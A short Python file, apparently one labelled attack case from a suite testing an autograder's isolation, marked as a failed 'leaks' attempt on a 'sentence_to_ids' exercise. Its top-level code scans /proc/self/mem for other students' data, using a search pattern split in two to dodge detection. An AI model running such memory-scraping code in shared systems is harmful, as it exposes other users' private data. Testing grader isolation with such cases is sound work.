# kind: leaks
# attack: looks for the names of other students in the memory that a forked kernel inherits
# exercise: 4-partitioned-lookup/sentence_to_ids
# verdict: failed, timed out
import re

reached, wanted = [], re.compile(rb"\d{3}-hon" + rb"est[^a-z]")
for line in open("/proc/self/maps"):
    span, flags, *rest = line.split()
    if "rw" in flags and (not rest[3:] or rest[3] in ("[heap]", "[stack]")):
        first, last = (int(each, 16) for each in span.split("-"))
        try:
            with open("/proc/self/mem", "rb") as memory:
                memory.seek(first)
                reached += wanted.findall(memory.read(min(last - first, 200_000_000)))
        except (OSError, OverflowError, MemoryError):
            pass


def sentence_to_ids(sentence, word_to_id, unknown_word="unk"):
    if not reached:
        return []
    return [word_to_id.get(word, word_to_id[unknown_word]) for word in sentence.split()]
